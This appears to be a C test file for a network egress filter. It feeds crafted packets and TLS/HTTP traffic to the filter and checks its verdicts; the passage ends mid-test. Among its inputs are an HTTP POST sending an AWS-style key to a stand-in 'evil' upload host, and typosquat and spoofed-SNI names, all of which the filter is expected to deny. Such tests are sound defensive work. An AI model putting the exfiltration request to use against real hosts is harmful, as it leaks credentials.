/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * The decision engine, end to end on packets built here: IPv4/IPv6 TCP
 * SYNs, real ClientHellos split across records and segments (in and out
 * of order, duplicated, overlapping), HTTP, UDP, ICMP, garbage; verify
 * mode, audit mode, timeouts, the DNS guard. Every test counts verdict
 * callbacks per packet handle: each handle gets exactly one.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <errno.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include <openssl/evp.h>
#include <openssl/hmac.h>

#include "engine.h"

#define S 1000000000ull
#define MAXH 512
#define MAXEV 64

struct evrec {
	int kind;
	enum reason reason;
	char name[256];
	char qname[256];
	enum name_source src;
	uint32_t bits;
	unsigned count;
	bool enforced;
	char detail[64];
	char masked[24];
	enum cred_type ctype;
	unsigned ncreds;
	unsigned rule_line;
	char imitates[254];
	enum severity sev;
	uint16_t dport;
	bool aggregated;
	uint64_t first_ns, last_ns;
};

struct h {
	unsigned vcount[MAXH];
	enum verdict vlast[MAXH];
	uint64_t next_handle;
	struct evrec ev[MAXEV];
	unsigned nev;
	char resolves[8][256];
	unsigned nres;
	struct engine *e;
	struct policy *p;
	struct bindings *b;
	struct engine_config cfg;
};

static void on_verdict(void *arg, uint64_t handle, enum verdict v)
{
	struct h *h = arg;
	assert_true(handle < MAXH);
	h->vcount[handle]++;
	h->vlast[handle] = v;
}

static void on_event(void *arg, const struct flow_event *ev)
{
	struct h *h = arg;
	assert_true(h->nev < MAXEV);
	struct evrec *r = &h->ev[h->nev++];
	memset(r, 0, sizeof *r);
	r->kind = ev->kind;
	r->reason = ev->reason;
	snprintf(r->name, sizeof r->name, "%s", ev->name ? ev->name : "");
	snprintf(r->qname, sizeof r->qname, "%s", ev->qname ? ev->qname : "");
	r->src = ev->name_source;
	r->bits = ev->ind.bits;
	r->count = ev->count;
	r->enforced = ev->enforced;
	snprintf(r->detail, sizeof r->detail, "%s", ev->detail ? ev->detail : "");
	r->ncreds = (unsigned)ev->ind.ncreds;
	if (ev->ind.ncreds) {
		snprintf(r->masked, sizeof r->masked, "%s", ev->ind.creds[0].masked);
		r->ctype = ev->ind.creds[0].type;
	}
	r->rule_line = ev->rule ? ev->rule->line : 0;
	snprintf(r->imitates, sizeof r->imitates, "%s", ev->ind.imitates);
	r->sev = ev->ind.severity;
	r->dport = ev->dport;
	r->aggregated = ev->aggregated;
	r->first_ns = ev->first_ns;
	r->last_ns = ev->last_ns;
	assert_true(ev->count >= 1);
}

static void on_resolve(void *arg, const char *name)
{
	struct h *h = arg;
	assert_true(h->nres < 8);
	snprintf(h->resolves[h->nres++], 256, "%s", name);
}

static struct addr A(const char *s) {
	struct addr a;
	assert_true(addr_parse(s, &a));
	return a;
}

static const uint16_t P443[] = {443},
                      P80[] = {80, 443}, P22[] = {22}, P123[] = {123};

/*
 * Policy: line 1 api.example.com, 2 other.example.com, 3 www.example.com:80,443,
 * 4 ssh.example.com:22, 5 203.0.113.0/24:443, 6 [2001:db8:1::/48]:443,
 * 7 ntp.example.com:123, 8 *.cdn.example.com, 9 github.com, 10 example.com
 */
static struct policy *make_policy(void)
{
	struct policy_builder *b = policy_builder_new();
	assert_int_equal(policy_builder_add_name(b, "api.example.com", false, P443, 1, "t.list", 1,
	                                         "api.example.com"),
	                 0);
	assert_int_equal(policy_builder_add_name(b, "other.example.com", false, P443, 1, "t.list",
	                                         2, "other.example.com"),
	                 0);
	assert_int_equal(policy_builder_add_name(b, "www.example.com", false, P80, 2, "t.list", 3,
	                                         "www.example.com:80,443"),
	                 0);
	assert_int_equal(policy_builder_add_name(b, "ssh.example.com", false, P22, 1, "t.list", 4,
	                                         "ssh.example.com:22"),
	                 0);
	struct addr n = A("203.0.113.0"), n6 = A("2001:db8:1::");
	assert_int_equal(
	    policy_builder_add_range(b, &n, 24, P443, 1, "t.list", 5, "203.0.113.0/24:443"), 0);
	assert_int_equal(
	    policy_builder_add_range(b, &n6, 48, P443, 1, "t.list", 6, "[2001:db8:1::/48]:443"), 0);
	assert_int_equal(policy_builder_add_name(b, "ntp.example.com", false, P123, 1, "t.list", 7,
	                                         "ntp.example.com:123"),
	                 0);
	assert_int_equal(policy_builder_add_name(b, "cdn.example.com", true, P443, 1, "t.list", 8,
	                                         "*.cdn.example.com"),
	                 0);
	assert_int_equal(
	    policy_builder_add_name(b, "github.com", false, P443, 1, "t.list", 9, "github.com"), 0);
	assert_int_equal(
	    policy_builder_add_name(b, "example.com", false, P443, 1, "t.list", 10, "example.com"),
	    0);
	struct policy *p = policy_builder_finish(b);
	assert_non_null(p);
	return p;
}

static struct h *setup_with(void (*tweak)(struct engine_config *))
{
	static struct h hs;
	struct h *h = &hs;
	memset(h, 0, sizeof *h);
	engine_config_defaults(&h->cfg);
	if (tweak)
		tweak(&h->cfg);
	h->p = make_policy();
	h->b = bind_new(1024);
	struct engine_hooks hooks = {on_verdict, on_event, on_resolve, h};
	h->e = engine_new(&h->cfg, h->p, h->b, &hooks);
	assert_non_null(h->e);
	return h;
}

/* Free the engine and check every handle handed out got exactly one verdict. */
static void teardown_h(struct h *h)
{
	engine_free(h->e);
	for (uint64_t i = 0; i < h->next_handle; i++) {
		if (h->vcount[i] != 1)
			fail_msg("handle %llu got %u verdicts", (unsigned long long)i,
			         h->vcount[i]);
	}
	bind_free(h->b);
	policy_free(h->p);
}

/* ---- packet builders ---- */

static void put16(uint8_t *p, uint16_t v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void put32(uint8_t *p, uint32_t v)
{
	put16(p, (uint16_t)(v >> 16));
	put16(p + 2, (uint16_t)v);
}

/* IP header for proto with l4len bytes following; returns header length. */
static size_t build_ip(uint8_t *out, const char *src, const char *dst, uint8_t proto, size_t l4len)
{
	struct addr s = A(src), d = A(dst);
	assert_int_equal(s.family, d.family);
	if (s.family == ADDR_V4) {
		memset(out, 0, 20);
		out[0] = 0x45;
		put16(out + 2, (uint16_t)(20 + l4len));
		put16(out + 6, 0x4000); /* DF */
		out[8] = 64;
		out[9] = proto;
		memcpy(out + 12, s.b, 4);
		memcpy(out + 16, d.b, 4);
		return 20;
	}
	memset(out, 0, 40);
	out[0] = 0x60;
	put16(out + 4, (uint16_t)l4len);
	out[6] = proto;
	out[7] = 64;
	memcpy(out + 8, s.b, 16);
	memcpy(out + 24, d.b, 16);
	return 40;
}

static size_t build_tcp(uint8_t *out, const char *src, const char *dst, uint16_t sport,
                        uint16_t dport, uint32_t seq, uint8_t flags, const void *pl, size_t n)
{
	size_t ip = build_ip(out, src, dst, 6, 20 + n);
	uint8_t *t = out + ip;
	memset(t, 0, 20);
	put16(t, sport);
	put16(t + 2, dport);
	put32(t + 4, seq);
	put32(t + 8, flags & 0x10 ? 1 : 0);
	t[12] = 5 << 4;
	t[13] = flags;
	put16(t + 14, 65535);
	if (n)
		memcpy(t + 20, pl, n);
	return ip + 20 + n;
}

static size_t build_udp(uint8_t *out, const char *src, const char *dst, uint16_t sport,
                        uint16_t dport, const void *pl, size_t n)
{
	size_t ip = build_ip(out, src, dst, 17, 8 + n);
	uint8_t *u = out + ip;
	put16(u, sport);
	put16(u + 2, dport);
	put16(u + 4, (uint16_t)(8 + n));
	put16(u + 6, 0);
	if (n)
		memcpy(u + 8, pl, n);
	return ip + 8 + n;
}

static uint64_t feed(struct h *h, const uint8_t *pkt, size_t len, uint64_t now)
{
	uint64_t id = h->next_handle++;
	assert_true(id < MAXH);
	engine_packet(h->e, id, pkt, len, 1000, now);
	return id;
}

#define ISN 1000u
#define SYN 0x02
#define ACK 0x10
#define PSH 0x08

static uint64_t syn(struct h *h, const char *src, const char *dst, uint16_t sport, uint16_t dport,
                    uint64_t now)
{
	uint8_t pkt[128];
	size_t n = build_tcp(pkt, src, dst, sport, dport, ISN, SYN, NULL, 0);
	return feed(h, pkt, n, now);
}

/* A segment at stream offset off (ISN+1 relative). */
static uint64_t seg(struct h *h, const char *src, const char *dst, uint16_t sport, uint16_t dport,
                    size_t off, const void *data, size_t n, uint64_t now)
{
	uint8_t pkt[4096];
	assert_true(n < 4000);
	size_t len =
	    build_tcp(pkt, src, dst, sport, dport, ISN + 1 + (uint32_t)off, ACK | PSH, data, n);
	return feed(h, pkt, len, now);
}

/* ClientHello (TLS 1.3 shape) carried in `records` handshake records. */
static size_t build_hello(uint8_t *out, const char *sni, bool ech, size_t pad, size_t records)
{
	uint8_t body[2048];
	size_t o = 0;
	put16(body + o, 0x0303);
	o += 2;
	memset(body + o, 0x11, 32);
	o += 32;
	body[o++] = 32;
	memset(body + o, 0x22, 32);
	o += 32;
	put16(body + o, 2);
	put16(body + o + 2, 0x1301);
	o += 4;
	body[o++] = 1;
	body[o++] = 0;
	size_t extlen_at = o;
	o += 2;
	if (sni) {
		size_t sl = strlen(sni);
		put16(body + o, 0x0000);
		put16(body + o + 2, (uint16_t)(sl + 5));
		put16(body + o + 4, (uint16_t)(sl + 3));
		body[o + 6] = 0;
		put16(body + o + 7, (uint16_t)sl);
		memcpy(body + o + 9, sni, sl);
		o += 9 + sl;
	}
	put16(body + o, 0x002b); /* supported_versions: TLS 1.3 */
	put16(body + o + 2, 3);
	body[o + 4] = 2;
	put16(body + o + 5, 0x0304);
	o += 7;
	if (ech) {
		put16(body + o, 0xfe0d);
		put16(body + o + 2, 4);
		memset(body + o + 4, 0xab, 4);
		o += 8;
	}
	if (pad) {
		put16(body + o, 0x0015);
		put16(body + o + 2, (uint16_t)pad);
		memset(body + o + 4, 0, pad);
		o += 4 + pad;
	}
	put16(body + extlen_at, (uint16_t)(o - extlen_at - 2));
	uint8_t hs[2100];
	hs[0] = 1;
	hs[1] = (uint8_t)(o >> 16);
	hs[2] = (uint8_t)(o >> 8);
	hs[3] = (uint8_t)o;
	memcpy(hs + 4, body, o);
	size_t hl = o + 4, w = 0, done = 0;
	for (size_t r = 0; r < records; r++) {
		size_t frag = r + 1 == records ? hl - done : hl / records;
		out[w] = 22;
		put16(out + w + 1, 0x0301);
		put16(out + w + 3, (uint16_t)frag);
		memcpy(out + w + 5, hs + done, frag);
		w += 5 + frag;
		done += frag;
	}
	return w;
}

/* Handle got exactly one verdict, and it was v. */
static void assert_one_verdict(const struct h *h, uint64_t handle, enum verdict v)
{
	assert_int_equal(h->vcount[handle], 1);
	assert_int_equal(h->vlast[handle], v);
}

static const struct evrec *last_ev(const struct h *h)
{
	assert_true(h->nev > 0);
	return &h->ev[h->nev - 1];
}

static void bind_name(struct h *h, const char *name, const char *ip)
{
	struct addr a = A(ip);
	assert_int_equal(bind_add(h->b, name, &a, 1000 * S, 0), 0);
}

/* ---- tests ---- */

static void test_syn_range_and_repeats(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	uint64_t a = syn(h, "192.0.2.1", "203.0.113.5", 40000, 443, 1);
	assert_one_verdict(h, a, VERDICT_ALLOW);
	assert_int_equal(h->nev, 1);
	assert_int_equal(last_ev(h)->kind, EVENT_ALLOW);
	assert_int_equal(last_ev(h)->rule_line, 5);
	/* a packet queued before the mark took effect: same verdict, no new event */
	uint64_t b = seg(h, "192.0.2.1", "203.0.113.5", 40000, 443, 0, "x", 1, 2);
	assert_int_equal(h->vlast[b], VERDICT_ALLOW);
	assert_int_equal(h->nev, 1);
	/* IPv6 range */
	uint64_t c = syn(h, "2001:db8:ff::1", "2001:db8:1::443", 40001, 443, 3);
	assert_int_equal(h->vlast[c], VERDICT_ALLOW);
	assert_int_equal(last_ev(h)->rule_line, 6);
	/* range known, port not */
	uint64_t d = syn(h, "192.0.2.1", "203.0.113.5", 40002, 8443, 4);
	assert_int_equal(h->vlast[d], VERDICT_DENY);
	assert_int_equal(last_ev(h)->reason, REASON_PORT_NOT_ALLOWED);
	teardown_h(h);
}

static void test_syn_ip_not_allowed(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	uint64_t a = syn(h, "192.0.2.1", "198.51.100.9", 40000, 443, 1);
	assert_int_equal(h->vlast[a], VERDICT_DENY);
	assert_int_equal(h->nev, 1);
	const struct evrec *ev = last_ev(h);
	assert_int_equal(ev->kind, EVENT_DENY);
	assert_int_equal(ev->reason, REASON_IP_NOT_ALLOWED);
	assert_true(ev->bits & IND_IP_LITERAL);
	assert_int_equal(ev->sev, SEVERITY_MEDIUM);
	assert_true(ev->enforced);
	/* retransmission: DENY again, no new event */
	uint64_t b = syn(h, "192.0.2.1", "198.51.100.9", 40000, 443, 2);
	assert_int_equal(h->vlast[b], VERDICT_DENY);
	assert_int_equal(h->nev, 1);
	/* bound, but to a name not allowed on this port */
	bind_name(h, "ssh.example.com", "198.51.100.22");
	uint64_t c = syn(h, "192.0.2.1", "198.51.100.22", 40001, 443, 3);
	assert_int_equal(h->vlast[c], VERDICT_DENY);
	assert_int_equal(last_ev(h)->reason, REASON_PORT_NOT_ALLOWED);
	teardown_h(h);
}

static void test_tls_split_out_of_order(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	const char *cl = "192.0.2.1", *sv = "198.51.100.10";
	bind_name(h, "api.example.com", sv);
	uint64_t s = syn(h, cl, sv, 40000, 443, 1);
	assert_int_equal(h->vlast[s], VERDICT_PASS);
	uint64_t ack = seg(h, cl, sv, 40000, 443, 0, NULL, 0, 2);
	assert_int_equal(h->vlast[ack], VERDICT_PASS);
	assert_int_equal(h->nev, 0);
	uint8_t hello[2048];
	size_t n = build_hello(hello, "api.example.com", false, 400, 2);
	size_t q = n / 4;
	size_t offs[4] = {0, q, 2 * q, 3 * q}, lens[4] = {q, q, q, n - 3 * q};
	uint64_t ids[4];
	int order[4] = {2, 0, 3, 1};
	for (int i = 0; i < 3; i++) {
		int k = order[i];
		ids[k] =
		    seg(h, cl, sv, 40000, 443, offs[k], hello + offs[k], lens[k], 3 + (uint64_t)i);
		assert_int_equal(h->vcount[ids[k]], 0); /* held */
	}
	struct engine_stats st;
	engine_stats(h->e, &st);
	assert_int_equal(st.held_packets, 3);
	/* an exact retransmission of a held segment: dropped, the original is held */
	uint64_t dup = seg(h, cl, sv, 40000, 443, offs[0], hello + offs[0], lens[0], 6);
	assert_one_verdict(h, dup, VERDICT_DROP);
	/* overlapping with identical bytes, partly new: held too */
	uint64_t ov = seg(h, cl, sv, 40000, 443, offs[1] - 10, hello + offs[1] - 10, 20, 7);
	assert_int_equal(h->vcount[ov], 0);
	ids[1] = seg(h, cl, sv, 40000, 443, offs[1], hello + offs[1], lens[1], 8);
	for (int k = 0; k < 4; k++) {
		assert_int_equal(h->vcount[ids[k]], 1);
		assert_int_equal(h->vlast[ids[k]], VERDICT_ALLOW);
	}
	assert_int_equal(h->vlast[ov], VERDICT_ALLOW);
	assert_int_equal(h->nev, 1);
	const struct evrec *ev = last_ev(h);
	assert_int_equal(ev->kind, EVENT_ALLOW);
	assert_string_equal(ev->name, "api.example.com");
	assert_int_equal(ev->src, NAME_SOURCE_SNI);
	assert_int_equal(ev->rule_line, 1);
	engine_stats(h->e, &st);
	assert_int_equal(st.held_packets, 0);
	assert_int_equal(st.held_bytes, 0);
	/* later data of the flow: ALLOW at once */
	uint64_t later = seg(h, cl, sv, 40000, 443, n, "abc", 3, 9);
	assert_int_equal(h->vlast[later], VERDICT_ALLOW);
	teardown_h(h);
}

static void test_tls_ipv6_and_wildcard(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	const char *cl = "2001:db8:ff::1", *sv = "2001:db8:2::10";
	bind_name(h, "img.cdn.example.com", sv);
	uint64_t s = syn(h, cl, sv, 40000, 443, 1);
	assert_int_equal(h->vlast[s], VERDICT_PASS);
	uint8_t hello[2048];
	size_t n = build_hello(hello, "img.cdn.example.com", false, 0, 1);
	uint64_t d = seg(h, cl, sv, 40000, 443, 0, hello, n, 2);
	assert_int_equal(h->vlast[d], VERDICT_ALLOW);
	assert_int_equal(last_ev(h)->rule_line, 8);
	teardown_h(h);
}

static void (*hello_tweak)(struct engine_config *);

static void tweak_ech_deny(struct engine_config *c)
{
	c->ech = ECH_DENY;
}

static void tweak_ech_allow(struct engine_config *c)
{
	c->ech = ECH_ALLOW;
}

static void hello_case(const char *sni, bool ech, const char *bound_name, enum reason want,
                       uint32_t want_bits, enum severity sev)
{
	struct h *h = setup_with(hello_tweak);
	const char *cl = "192.0.2.1", *sv = "198.51.100.10";
	bind_name(h, bound_name, sv);
	uint64_t s = syn(h, cl, sv, 40000, 443, 1);
	assert_int_equal(h->vlast[s], VERDICT_PASS);
	uint8_t hello[2048];
	size_t n = build_hello(hello, sni, ech, 0, 1);
	uint64_t a = seg(h, cl, sv, 40000, 443, 0, hello, n / 2, 2);
	assert_int_equal(h->vcount[a], 0);
	uint64_t b = seg(h, cl, sv, 40000, 443, n / 2, hello + n / 2, n - n / 2, 3);
	assert_int_equal(h->vlast[a], VERDICT_DENY);
	assert_int_equal(h->vlast[b], VERDICT_DENY);
	const struct evrec *ev = last_ev(h);
	assert_int_equal(ev->kind, EVENT_DENY);
	assert_int_equal(ev->reason, want);
	if ((ev->bits & want_bits) != want_bits)
		fail_msg("bits %#x want %#x", ev->bits, want_bits);
	assert_int_equal(ev->sev, sev);
	/* the rest of the flow: DENY, no new event */
	unsigned nev = h->nev;
	uint64_t c = seg(h, cl, sv, 40000, 443, n, "zz", 2, 4);
	assert_int_equal(h->vlast[c], VERDICT_DENY);
	assert_int_equal(h->nev, nev);
	teardown_h(h);
}

static void test_tls_denials(void **state)
{
	(void)state;
	/* SNI not in the policy */
	hello_case("evil.example.net", false, "api.example.com", REASON_NAME_NOT_ALLOWED,
	           IND_SPLIT_HELLO, SEVERITY_MEDIUM);
	/* allowed name, but DNS never gave this address for it */
	hello_case("other.example.com", false, "api.example.com", REASON_SNI_IP_MISMATCH,
	           IND_SNI_SPOOF | IND_SPLIT_HELLO, SEVERITY_HIGH);
	/* allowed name on another port only */
	hello_case("ssh.example.com", false, "api.example.com", REASON_PORT_NOT_ALLOWED, 0,
	           SEVERITY_MEDIUM);
	hello_case(NULL, false, "api.example.com", REASON_NO_NAME, 0, SEVERITY_MEDIUM);
	/* ech = deny: any hello with an ECH extension, even to an allowed, bound name */
	hello_tweak = tweak_ech_deny;
	hello_case("api.example.com", true, "api.example.com", REASON_ECH, IND_ECH,
	           SEVERITY_MEDIUM);
	hello_tweak = NULL;
	/* ech = outer (default): decided on the outer SNI, which must be allowed and bound */
	hello_case("evil.example.net", true, "api.example.com", REASON_NAME_NOT_ALLOWED, 0,
	           SEVERITY_MEDIUM);
	hello_case("other.example.com", true, "api.example.com", REASON_SNI_IP_MISMATCH,
	           IND_SNI_SPOOF, SEVERITY_HIGH);
	hello_tweak = tweak_ech_allow;
	hello_case("other.example.com", true, "api.example.com", REASON_SNI_IP_MISMATCH,
	           IND_SNI_SPOOF, SEVERITY_HIGH);
	hello_tweak = NULL;
	/* look-alike of an allowed registrable domain */
	hello_case("githuh.com", false, "api.example.com", REASON_NAME_NOT_ALLOWED, IND_TYPOSQUAT,
	           SEVERITY_HIGH);
}

/* ech = outer / allow: an ECH (GREASE) hello with an allowed, bound outer SNI is allowed. */
static void ech_allowed_case(void (*tweak)(struct engine_config *))
{
	struct h *h = setup_with(tweak);
	const char *cl = "192.0.2.1", *sv = "198.51.100.10";
	bind_name(h, "api.example.com", sv);
	uint64_t s = syn(h, cl, sv, 40000, 443, 1);
	assert_int_equal(h->vlast[s], VERDICT_PASS);
	uint8_t hello[2048];
	size_t n = build_hello(hello, "api.example.com", true, 0, 1);
	uint64_t a = seg(h, cl, sv, 40000, 443, 0, hello, n, 2);
	assert_one_verdict(h, a, VERDICT_ALLOW);
	const struct evrec *ev = last_ev(h);
	assert_int_equal(ev->kind, EVENT_ALLOW);
	assert_string_equal(ev->name, "api.example.com");
	assert_int_equal(ev->src, NAME_SOURCE_SNI);
	teardown_h(h);
}

static void test_ech_outer(void **state)
{
	(void)state;
	ech_allowed_case(NULL);
	ech_allowed_case(tweak_ech_allow);
}

static void test_typosquat_imitates(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	bind_name(h, "api.example.com", "198.51.100.10");
	syn(h, "192.0.2.1", "198.51.100.10", 40000, 443, 1);
	uint8_t hello[2048];
	size_t n = build_hello(hello, "login.g1thub.com", false, 0, 1);
	uint64_t a = seg(h, "192.0.2.1", "198.51.100.10", 40000, 443, 0, hello, n, 2);
	assert_int_equal(h->vlast[a], VERDICT_DENY);
	assert_true(last_ev(h)->bits & IND_TYPOSQUAT);
	assert_string_equal(last_ev(h)->imitates, "github.com");
	/* the allowed name with the same labels below the domain is the one imitated */
	syn(h, "192.0.2.1", "198.51.100.10", 40002, 443, 3);
	n = build_hello(hello, "ssh.examp1e.com", false, 0, 1);
	seg(h, "192.0.2.1", "198.51.100.10", 40002, 443, 0, hello, n, 3);
	assert_true(last_ev(h)->bits & IND_TYPOSQUAT);
	assert_string_equal(last_ev(h)->imitates, "ssh.example.com");
	/* an IDN look-alike: "ex\u0430mple" with a Cyrillic a */
	syn(h, "192.0.2.1", "198.51.100.10", 40003, 443, 3);
	n = build_hello(hello, "ssh.xn--exmple-4nf.com", false, 0, 1);
	seg(h, "192.0.2.1", "198.51.100.10", 40003, 443, 0, hello, n, 3);
	assert_true(last_ev(h)->bits & IND_TYPOSQUAT);
	assert_string_equal(last_ev(h)->imitates, "ssh.example.com");
	/* a name under an allowed domain is not a look-alike */
	syn(h, "192.0.2.1", "198.51.100.10", 40001, 443, 3);
	n = build_hello(hello, "gist.github.com", false, 0, 1);
	seg(h, "192.0.2.1", "198.51.100.10", 40001, 443, 0, hello, n, 4);
	assert_int_equal(last_ev(h)->reason, REASON_NAME_NOT_ALLOWED);
	assert_false(last_ev(h)->bits & IND_TYPOSQUAT);
	teardown_h(h);
}

static void test_overlap_conflict(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	const char *cl = "192.0.2.1", *sv = "198.51.100.10";
	bind_name(h, "api.example.com", sv);
	syn(h, cl, sv, 40000, 443, 1);
	uint8_t hello[2048];
	size_t n = build_hello(hello, "api.example.com", false, 0, 1);
	uint64_t a = seg(h, cl, sv, 40000, 443, 0, hello, 20, 2);
	uint8_t alt[20];
	memcpy(alt, hello + 10, 20);
	alt[5] ^= 0xff; /* byte 15 differs from what was held */
	uint64_t b = seg(h, cl, sv, 40000, 443, 10, alt, 20, 3);
	assert_int_equal(h->vlast[a], VERDICT_DENY);
	assert_int_equal(h->vlast[b], VERDICT_DENY);
	assert_int_equal(last_ev(h)->reason, REASON_MALFORMED);
	assert_string_equal(last_ev(h)->detail, "overlap_mismatch");
	(void)n;
	teardown_h(h);
}

static void test_tls_malformed(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	const char *cl = "192.0.2.1", *sv = "198.51.100.10";
	bind_name(h, "api.example.com", sv);
	syn(h, cl, sv, 40000, 443, 1);
	/* handshake record carrying a ServerHello (type 2) */
	const uint8_t bad[] = {22, 3, 1, 0, 8, 2, 0, 0, 4, 3, 3, 0, 0};
	uint64_t a = seg(h, cl, sv, 40000, 443, 0, bad, sizeof bad, 2);
	assert_int_equal(h->vlast[a], VERDICT_DENY);
	assert_int_equal(last_ev(h)->reason, REASON_MALFORMED);
	assert_true(last_ev(h)->detail[0] != '\0');
	teardown_h(h);
}

static void test_http(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	const char *cl = "192.0.2.1", *sv = "198.51.100.80";
	bind_name(h, "www.example.com", sv);
	syn(h, cl, sv, 40000, 80, 1);
	const char *req = "GET / HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: t\r\n\r\n";
	uint64_t a = seg(h, cl, sv, 40000, 80, 0, req, 10, 2);
	assert_int_equal(h->vcount[a], 0);
	uint64_t b = seg(h, cl, sv, 40000, 80, 10, req + 10, strlen(req) - 10, 3);
	assert_int_equal(h->vlast[a], VERDICT_INSPECT);
	assert_int_equal(h->vlast[b], VERDICT_INSPECT);
	assert_int_equal(last_ev(h)->src, NAME_SOURCE_HTTP_HOST);
	assert_string_equal(last_ev(h)->name, "www.example.com");

	/* exfiltration: POST to a look-alike with a key in the body */
	syn(h, cl, sv, 40001, 80, 4);
	const char *post = "POST /u HTTP/1.1\r\nHost: upload.evil.example\r\nContent-Length: 24\r\n"
	                   "\r\nkey=AKIAIOSFODNN7EXAMPLE";
	uint64_t c = seg(h, cl, sv, 40001, 80, 0, post, strlen(post), 5);
	assert_int_equal(h->vlast[c], VERDICT_DENY);
	const struct evrec *ev = last_ev(h);
	assert_int_equal(ev->reason, REASON_NAME_NOT_ALLOWED);
	assert_true(ev->bits & IND_CREDENTIAL);
	assert_int_equal(ev->ctype, CRED_AWS_ACCESS_KEY);
	assert_string_equal(ev->masked, "AKIA\xe2\x80\xa6MPLE");
	assert_int_equal(ev->sev, SEVERITY_CRITICAL);

	/* CONNECT is a proxy request */
	syn(h, cl, sv, 40002, 80, 6);
	const char *conn =
	    "CONNECT www.example.com:443 HTTP/1.1\r\nHost: www.example.com:443\r\n\r\n";
	uint64_t d = seg(h, cl, sv, 40002, 80, 0, conn, strlen(conn), 7);
	assert_int_equal(h->vlast[d], VERDICT_DENY);
	assert_int_equal(last_ev(h)->reason, REASON_PROTOCOL_NOT_ALLOWED);

	/* HTTP/2 prior knowledge: no name */
	syn(h, cl, sv, 40003, 80, 8);
	const char *h2 = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
	uint64_t e = seg(h, cl, sv, 40003, 80, 0, h2, strlen(h2), 9);
	assert_int_equal(h->vlast[e], VERDICT_DENY);
	assert_int_equal(last_ev(h)->reason, REASON_NO_NAME);
	teardown_h(h);
}

static void test_other_protocols(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	const char *cl = "192.0.2.1";
	bind_name(h, "api.example.com", "198.51.100.10");
	bind_name(h, "ssh.example.com", "198.51.100.22");
	/* neither TLS nor HTTP on 443 */
	syn(h, cl, "198.51.100.10", 40000, 443, 1);
	uint64_t a = seg(h, cl, "198.51.100.10", 40000, 443, 0, "SSH-2.0-x\r\n", 11, 2);
	assert_int_equal(h->vlast[a], VERDICT_DENY);
	assert_int_equal(last_ev(h)->reason, REASON_PROTOCOL_NOT_ALLOWED);
	/* on 22 the DNS binding alone allows it */
	uint64_t s = syn(h, cl, "198.51.100.22", 40001, 22, 3);
	assert_int_equal(h->vlast[s], VERDICT_PASS);
	uint64_t b = seg(h, cl, "198.51.100.22", 40001, 22, 0, "SSH-2.0-OpenSSH_9.2\r\n", 21, 4);
	assert_int_equal(h->vlast[b], VERDICT_ALLOW);
	assert_int_equal(last_ev(h)->src, NAME_SOURCE_DNS);
	assert_string_equal(last_ev(h)->name, "ssh.example.com");
	assert_int_equal(last_ev(h)->rule_line, 4);
	teardown_h(h);
}

static void test_packet_level(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	const uint8_t garbage[] = {0x99, 1, 2, 3};
	uint64_t a = feed(h, garbage, sizeof garbage, 1);
	assert_int_equal(h->vlast[a], VERDICT_DENY);
	assert_int_equal(last_ev(h)->reason, REASON_MALFORMED);
	assert_string_equal(last_ev(h)->detail, "bad_version");
	/* a non-first IPv4 fragment */
	uint8_t pkt[256];
	size_t n = build_udp(pkt, "192.0.2.1", "203.0.113.5", 1, 2, "abcd", 4);
	put16(pkt + 6, 0x0010);
	uint64_t b = feed(h, pkt, n, 2);
	assert_int_equal(h->vlast[b], VERDICT_DENY);
	assert_string_equal(last_ev(h)->detail, "fragment");
	/* ICMP echo reaching the queue */
	n = build_ip(pkt, "192.0.2.1", "203.0.113.5", 1, 8);
	memset(pkt + n, 0, 8);
	pkt[n] = 8;
	uint64_t c = feed(h, pkt, n + 8, 3);
	assert_int_equal(h->vlast[c], VERDICT_DENY);
	assert_int_equal(last_ev(h)->reason, REASON_PROTOCOL_NOT_ALLOWED);
	/* GRE */
	n = build_ip(pkt, "192.0.2.1", "203.0.113.5", 47, 4);
	memset(pkt + n, 0, 4);
	uint64_t d = feed(h, pkt, n + 4, 4);
	assert_int_equal(h->vlast[d], VERDICT_DENY);
	/* data of a flow whose SYN was never seen */
	bind_name(h, "api.example.com", "198.51.100.10");
	uint64_t e = seg(h, "192.0.2.1", "198.51.100.10", 40000, 443, 0, "x", 1, 5);
	assert_int_equal(h->vlast[e], VERDICT_DENY);
	assert_int_equal(last_ev(h)->reason, REASON_INCOMPLETE);
	/* a segment before the stream start */
	syn(h, "192.0.2.1", "198.51.100.10", 40001, 443, 6);
	uint8_t raw[128];
	size_t rn =
	    build_tcp(raw, "192.0.2.1", "198.51.100.10", 40001, 443, ISN - 5, ACK, "abc", 3);
	uint64_t f = feed(h, raw, rn, 7);
	assert_int_equal(h->vlast[f], VERDICT_DENY);
	assert_int_equal(last_ev(h)->reason, REASON_INCOMPLETE);
	teardown_h(h);
}

static void test_udp(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	uint8_t pkt[256];
	bind_name(h, "ntp.example.com", "198.51.100.123");
	size_t n = build_udp(pkt, "192.0.2.1", "198.51.100.123", 5000, 123, "ntp", 3);
	uint64_t a = feed(h, pkt, n, 1);
	assert_int_equal(h->vlast[a], VERDICT_ALLOW);
	assert_int_equal(last_ev(h)->src, NAME_SOURCE_DNS);
	/* next datagram of the same flow */
	uint64_t a2 = feed(h, pkt, n, 2);
	assert_int_equal(h->vlast[a2], VERDICT_ALLOW);
	n = build_udp(pkt, "192.0.2.1", "198.51.100.124", 5000, 123, "ntp", 3);
	uint64_t b = feed(h, pkt, n, 3);
	assert_int_equal(h->vlast[b], VERDICT_DENY);
	assert_int_equal(last_ev(h)->reason, REASON_IP_NOT_ALLOWED);
	/* QUIC with policy deny */
	bind_name(h, "api.example.com", "198.51.100.10");
